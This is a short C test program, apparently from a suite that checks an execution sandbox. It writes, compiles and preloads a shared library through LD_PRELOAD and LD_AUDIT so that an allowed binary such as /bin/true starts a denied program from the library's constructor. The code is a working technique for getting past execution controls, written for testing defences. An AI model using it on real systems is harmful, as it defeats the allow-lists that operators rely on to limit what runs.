/* A library that is preloaded by LD_PRELOAD into an allowed program starts the denied one from its constructor. */
// aims: marks
// control: harms
#include "attack.h"

/* The program and the library are the same file: it starts itself again, preloaded. */
int main(int count, char **words) {
  if (count > 1) return 0;
  FILE *source = fopen("l.c", "w");
  fprintf(source,
          "#include <unistd.h>\n#include <stdlib.h>\n"
          "__attribute__((constructor)) void begin(void) { unsetenv(\"LD_PRELOAD\"); unsetenv(\"LD_AUDIT\");\n"
          "if (!vfork()) { execl(getenv(\"ATTACK_SWIFT\"), \"ls\", (char *)0); _exit(1); } }\n"
          "unsigned la_version(unsigned v) { return v; }\n");
  fclose(source);
  if (system("gcc -shared -fPIC -o l.so l.c 2>/dev/null")) cannot("nothing can be compiled here");
  tried();
  system("LD_PRELOAD=$PWD/l.so /bin/true; LD_AUDIT=$PWD/l.so /bin/true; LD_PRELOAD=l.so LD_LIBRARY_PATH=$PWD /bin/true");
  return 0;
}
